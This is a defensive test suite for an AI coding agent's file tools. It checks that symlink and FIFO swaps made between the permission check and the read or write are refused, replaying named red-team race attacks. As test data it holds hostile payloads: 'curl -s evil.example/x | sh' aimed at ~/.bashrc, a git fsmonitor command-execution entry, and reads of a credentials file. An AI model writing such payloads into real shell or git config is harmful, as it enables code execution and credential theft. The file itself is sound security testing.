// The file tools read and write exactly the file their permission check named. Each attack of the
// red-team review (a sandboxed background job re-pointing a path while a call waits) is replayed
// here with a real swap at a deterministic moment: in the approval, in a preToolUse hook (after the
// check, before the tool) or in the undo snapshot (beforeWrite). Each has a negative control:
// without the swap the same call works.
import { describe, expect, test } from "bun:test";
import { execFileSync } from "node:child_process";
import {
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { loadChecked, writeChecked } from "../../src/tools/checkedFile.ts";
import { session, tempRoot, writeFiles } from "../support/toolFixtures.ts";
import { approving, KEY, pipeline, place, userRule } from "../support/toolPipeline.ts";

/** Replaces `path` (a file or folder) with a symlink to `target`; the original moves to `path.orig`. */
function swapForLink(path: string, target: string): void {
  renameSync(path, `${path}.orig`);
  symlinkSync(target, path);
}

describe("write_file: a folder re-pointed during the undo snapshot (red-team writeFifoRace)", () => {
  test("src/ swapped for a link to HOME: refused, ~/.bashrc untouched, nothing written anywhere", async () => {
    using where = place();
    writeFiles(where.root, { "src/a.ts": "x\n" });
    const p = pipeline(where, {
      rules: [userRule("allow", "edit(src/**)")],
      beforeWrite: () => swapForLink(join(where.root, "src"), where.home),
    });
    const outcome = await p.call("write_file", { path: "src/.bashrc", content: "curl -s evil.example/x | sh\n" });
    expect(outcome.status).toBe("failed");
    expect(outcome.output).toBe(
      `src/.bashrc changed while this call waited (it now leads to ` +
        `${where.home}/.bashrc); nothing was written. Check it and try again.`,
    );
    expect(readFileSync(join(where.home, ".bashrc"), "utf8")).toBe("# user's rc\n");
    expect(existsSync(join(where.root, "src.orig/.bashrc"))).toBe(false);
    expect(readdirSync(where.home).sort()).toEqual([".bashrc", ".garuda"]);
  });

  test("negative control: without the swap the same call writes src/.bashrc, no question asked", async () => {
    using where = place();
    writeFiles(where.root, { "src/a.ts": "x\n" });
    const approver = approving();
    const p = pipeline(where, { rules: [userRule("allow", "edit(src/**)")], approver, beforeWrite: () => {} });
    const outcome = await p.call("write_file", { path: "src/.bashrc", content: "echo project\n" });
    expect(outcome).toMatchObject({ status: "completed", output: "Wrote 1 line to src/.bashrc (new file)." });
    expect(readFileSync(join(where.root, "src/.bashrc"), "utf8")).toBe("echo project\n");
    expect(readFileSync(join(where.home, ".bashrc"), "utf8")).toBe("# user's rc\n");
    expect(approver.asked).toEqual([]);
  });
});

describe("write_file: an approved new file re-pointed during the question (red-team writeSwap)", () => {
  function project(where: { root: string }) {
    writeFiles(where.root, { "README.md": "hi\n", "notes/.keep": "", ".git/config": "[core]\n\tbare = false\n" });
  }
  const evil = '[core]\n\tbare = false\n[core]\n\tfsmonitor = "touch /tmp/pwned; false"\n';

  test(
    "notes/cfg becomes a link to ../.git/config while the user reads the diff: " + "refused, .git/config untouched",
    async () => {
      using where = place();
      project(where);
      const approver = approving(() => symlinkSync("../.git/config", join(where.root, "notes/cfg")));
      const p = pipeline(where, { approver });
      // The attack reads .git/config first, so a freshness check alone would not stop the write.
      expect((await p.call("read_file", { path: ".git/config" })).status).toBe("completed");
      const outcome = await p.call("write_file", { path: "notes/cfg", content: evil });
      expect(approver.asked).toHaveLength(1);
      expect(approver.asked[0]?.change).toMatchObject({ path: join(where.root, "notes/cfg"), oldText: null });
      expect(outcome.status).toBe("failed");
      expect(outcome.output).toBe(
        "notes/cfg changed while this call waited (it is now a link to .git/config); " +
          "nothing was written. Check it and try again.",
      );
      expect(readFileSync(join(where.root, ".git/config"), "utf8")).toBe("[core]\n\tbare = false\n");
      expect(lstatSync(join(where.root, "notes/cfg")).isSymbolicLink()).toBe(true);
    },
  );

  test("the engine would have refused that path outright (why the write must not follow the link)", async () => {
    using where = place();
    project(where);
    const p = pipeline(where, { approver: approving() });
    await p.call("read_file", { path: ".git/config" });
    symlinkSync("../.git/config", join(where.root, "notes/cfg"));
    const outcome = await p.call("write_file", { path: "notes/cfg", content: evil });
    expect(outcome.status).toBe("denied");
    expect(readFileSync(join(where.root, ".git/config"), "utf8")).toBe("[core]\n\tbare = false\n");
  });

  test("negative control: without the swap the approved new file is written", async () => {
    using where = place();
    project(where);
    const approver = approving();
    const p = pipeline(where, { approver });
    const outcome = await p.call("write_file", { path: "notes/cfg", content: "a = 1\n" });
    expect(outcome).toMatchObject({ status: "completed", output: "Wrote 1 line to notes/cfg (new file)." });
    expect(lstatSync(join(where.root, "notes/cfg")).isFile()).toBe(true);
    expect(readFileSync(join(where.root, "notes/cfg"), "utf8")).toBe("a = 1\n");
    expect(approver.asked).toHaveLength(1);
  });

  test("a symlink inside the project that was approved as such still gets written through", async () => {
    using where = place();
    writeFiles(where.root, { "real/config.json": "{}\n" });
    symlinkSync("real/config.json", join(where.root, "config.json"));
    const approver = approving();
    const p = pipeline(where, { approver });
    await p.call("read_file", { path: "config.json" });
    const outcome = await p.call("write_file", { path: "config.json", content: '{"a":1}\n' });
    expect(outcome.status).toBe("completed");
    expect(approver.asked[0]?.preview).toContain(`is a symlink to ${join(where.root, "real/config.json")}`);
    expect(lstatSync(join(where.root, "config.json")).isSymbolicLink()).toBe(true);
    expect(readFileSync(join(where.root, "real/config.json"), "utf8")).toBe('{"a":1}\n');
  });
});

describe("read_file: a file re-pointed after its check (red-team readRace)", () => {
  const link = (where: { root: string; home: string }) =>
    swapForLink(join(where.root, "f"), join(where.home, ".garuda/credentials"));

  test("f swapped for a link to ~/.garuda/credentials after the check: refused, the key is not returned", async () => {
    using where = place();
    writeFiles(where.root, { f: "harmless\n" });
    const p = pipeline(where, { pre: () => link(where) });
    const outcome = await p.call("read_file", { path: "f" });
    // The swap comes before the engine decides (a preToolUse hook's moment): the engine compares the
    // file the path leads to now by identity and refuses it as the secret it is.
    expect(outcome.status).toBe("denied");
    expect(outcome.output).toContain("f is the same file as ~/.garuda/credentials");
    expect(JSON.stringify(p.events)).not.toContain(KEY);
  });

  test("the check itself refuses the link when it is there at check time", async () => {
    using where = place();
    writeFiles(where.root, { f: "harmless\n" });
    link(where);
    const outcome = await pipeline(where).call("read_file", { path: "f" });
    expect(outcome.status).toBe("denied");
    expect(outcome.output).not.toContain(KEY);
  });

  test("negative control: without the swap the file is read", async () => {
    using where = place();
    writeFiles(where.root, { f: "harmless\n" });
    const outcome = await pipeline(where, { pre: () => {} }).call("read_file", { path: "f" });
    expect(outcome).toMatchObject({ status: "completed", output: "     1\tharmless" });
  });

  test(
    "symbols: a file re-pointed after its check is not outlined (negative control: " + "without the swap it is)",
    async () => {
      using where = place();
      writeFiles(where.root, { "a.ts": "export const visible = 1;\n" });
      writeFiles(where.home, { "secret.ts": "export const SECRET_NAME = 1;\n" });
      const swapped = await pipeline(where, {
        codeIndex: true,
        pre: () => swapForLink(join(where.root, "a.ts"), join(where.home, "secret.ts")),
      }).call("symbols", { path: "a.ts" });
      expect(swapped.status).toBe("failed");
      expect(swapped.output).toContain("a.ts changed while this call waited");
      expect(swapped.output).not.toContain("SECRET_NAME");
      using other = place();
      writeFiles(other.root, { "a.ts": "export const visible = 1;\n" });
      const plain = await pipeline(other, { codeIndex: true, pre: () => {} }).call("symbols", { path: "a.ts" });
      expect(plain.output).toContain("visible");
    },
  );

  test("a folder re-pointed after its check is not listed", async () => {
    using where = place();
    mkdirSync(join(where.root, "docs"));
    writeFiles(where.root, { "docs/a.md": "a\n" });
    const p = pipeline(where, { pre: () => swapForLink(join(where.root, "docs"), join(where.home, ".garuda")) });
    const outcome = await p.call("read_file", { path: "docs" });
    expect(outcome.output).toBe(
      `docs changed while this call waited (it is now a link to ` +
        `${where.home}/.garuda); nothing was read. Check it and try again.`,
    );
    const control = await pipeline(where, { pre: () => {} }).call("read_file", { path: "docs.orig" });
    expect(control.output).toContain("It contains:\na.md");
  });
});

describe("a symlink swapped in as the last component", () => {
  test(
    "edit_file: the file replaced by a link to a file outside during the snapshot → " + "refused, outside untouched",
    async () => {
      using where = place();
      writeFiles(where.root, { "run.sh": "echo 1\n" });
      const s = session(where.root);
      await s.run("read_file", { path: "run.sh" });
      s.ctx.beforeWrite = async () => swapForLink(join(where.root, "run.sh"), join(where.home, ".bashrc"));
      const outcome = await s.run("edit_file", { path: "run.sh", old_string: "echo 1", new_string: "curl evil | sh" });
      expect(outcome.isError).toBe(true);
      expect(outcome.output).toBe(
        `run.sh changed while this call waited (it is now a link to ` +
          `${where.home}/.bashrc); nothing was written. Check it and try again.`,
      );
      expect(readFileSync(join(where.home, ".bashrc"), "utf8")).toBe("# user's rc\n");
      expect(readFileSync(join(where.root, "run.sh.orig"), "utf8")).toBe("echo 1\n");
    },
  );

  test("negative control: the same edit without the swap", async () => {
    using where = place();
    writeFiles(where.root, { "run.sh": "echo 1\n" });
    const s = session(where.root);
    await s.run("read_file", { path: "run.sh" });
    const outcome = await s.run("edit_file", { path: "run.sh", old_string: "echo 1", new_string: "echo 2" });
    expect(outcome.isError).toBeUndefined();
    expect(readFileSync(join(where.root, "run.sh"), "utf8")).toBe("echo 2\n");
  });

  test("the open itself refuses a link that appears after the path was resolved (O_NOFOLLOW)", () => {
    using where = place();
    writeFiles(where.root, { f: "harmless\n", "src/a.ts": "x\n" });
    const f = join(where.root, "f");
    expect(loadChecked(f)).toMatchObject({ kind: "text", text: "harmless\n" });
    swapForLink(f, join(where.home, ".garuda/credentials"));
    const loaded = loadChecked(f);
    expect(loaded).toEqual({ kind: "changed", now: join(where.home, ".garuda/credentials") });
    expect(JSON.stringify(loaded)).not.toContain(KEY);
    // A folder on the way re-pointed: O_NOFOLLOW does not cover it; the check of the open file does.
    swapForLink(join(where.root, "src"), join(where.home, ".garuda"));
    expect(loadChecked(join(where.root, "src/credentials"))).toEqual({
      kind: "changed",
      now: join(where.home, ".garuda/credentials"),
    });
  });

  test("writeChecked: a link as the file or as a folder on the way → nothing written through it", () => {
    using where = place();
    writeFiles(where.root, { "a.txt": "old\n", "src/b.txt": "b\n" });
    const bytes = new TextEncoder().encode("new\n");
    swapForLink(join(where.root, "a.txt"), join(where.home, ".bashrc"));
    expect(writeChecked(join(where.root, "a.txt"), bytes, new TextEncoder().encode("old\n"))).toMatchObject({
      kind: "changed",
    });
    swapForLink(join(where.root, "src"), where.home);
    expect(writeChecked(join(where.root, "src/.bashrc"), bytes, null)).toMatchObject({ kind: "changed" });
    expect(writeChecked(join(where.root, "src/new/deeper.txt"), bytes, null)).toMatchObject({ kind: "changed" });
    expect(readFileSync(join(where.home, ".bashrc"), "utf8")).toBe("# user's rc\n");
    expect(readdirSync(where.home).sort()).toEqual([".bashrc", ".garuda"]);
    // Negative control: the same writes to real paths work; new folders are made, modes kept.
    rmSync(join(where.root, "a.txt"));
    writeFileSync(join(where.root, "a.txt"), "old\n", { mode: 0o750 });
    expect(writeChecked(join(where.root, "a.txt"), bytes, new TextEncoder().encode("old\n"))).toHaveProperty("mtimeMs");
    expect(statSync(join(where.root, "a.txt")).mode & 0o777).toBe(0o750);
    expect(writeChecked(join(where.root, "x/y/z.txt"), bytes, null)).toHaveProperty("mtimeMs");
    expect(readFileSync(join(where.root, "x/y/z.txt"), "utf8")).toBe("new\n");
    expect(statSync(join(where.root, "x/y/z.txt")).mode & 0o777).toBe(0o644);
    expect(readdirSync(join(where.root, "x/y"))).toEqual(["z.txt"]);
  });
});

describe("the file changed in other ways while the call waited", () => {
  test("edit_file: content changed during the snapshot → refused as stale", async () => {
    using root = tempRoot();
    writeFiles(root.path, { "a.txt": "one\n" });
    const s = session(root.path);
    await s.run("read_file", { path: "a.txt" });
    s.ctx.beforeWrite = async () => writeFileSync(join(root.path, "a.txt"), "one by the user\n");
    const outcome = await s.run("edit_file", { path: "a.txt", old_string: "one", new_string: "two" });
    expect(outcome.output).toBe(
      "a.txt changed while this call waited (a command or the user changed it); " +
        "nothing was written. Read it again with read_file, then redo the edit.",
    );
    expect(readFileSync(join(root.path, "a.txt"), "utf8")).toBe("one by the user\n");
  });

  test("write_file: a new file created by someone else during the snapshot is not overwritten", async () => {
    using root = tempRoot();
    const s = session(root.path);
    s.ctx.beforeWrite = async () => writeFileSync(join(root.path, "n.txt"), "theirs\n");
    const outcome = await s.run("write_file", { path: "n.txt", content: "mine\n" });
    expect(outcome.output).toBe(
      "n.txt was created while this call waited (by a command or the user); nothing " +
        "was written. Read it with read_file, then try again.",
    );
    expect(readFileSync(join(root.path, "n.txt"), "utf8")).toBe("theirs\n");
  });

  test("a FIFO is refused at once, not waited on", async () => {
    using root = tempRoot();
    execFileSync("mkfifo", [join(root.path, "pipe")]);
    const s = session(root.path);
    const read = await s.run("read_file", { path: "pipe" });
    expect(read.output).toBe("pipe is not a regular file (a device, socket or pipe); read_file reads files only.");
    writeFiles(root.path, { "a.txt": "one\n" });
    await s.run("read_file", { path: "a.txt" });
    s.ctx.beforeWrite = async () => {
      rmSync(join(root.path, "a.txt"));
      execFileSync("mkfifo", [join(root.path, "a.txt")]);
    };
    const edit = await s.run("edit_file", { path: "a.txt", old_string: "one", new_string: "two" });
    expect(edit.output).toBe(
      "a.txt changed while this call waited (it is no longer the file that was " +
        "checked); nothing was written. Check it and try again.",
    );
  });

  test("a partial (hunk) approval is still written as approved", async () => {
    using root = tempRoot();
    writeFiles(root.path, { "a.txt": "one\ntwo\n" });
    const s = session(root.path);
    await s.run("read_file", { path: "a.txt" });
    s.ctx.partial = {
      change: { path: join(root.path, "a.txt"), oldText: "one\ntwo\n", newText: "ONE\ntwo\n" },
      note: "The user left out one hunk.",
      hunks: { kept: [1], rejected: [2] },
    };
    const outcome = await s.run("write_file", { path: "a.txt", content: "ONE\nTWO\n" });
    expect(outcome.isError).toBeUndefined();
    expect(readFileSync(join(root.path, "a.txt"), "utf8")).toBe("ONE\ntwo\n");
  });
});
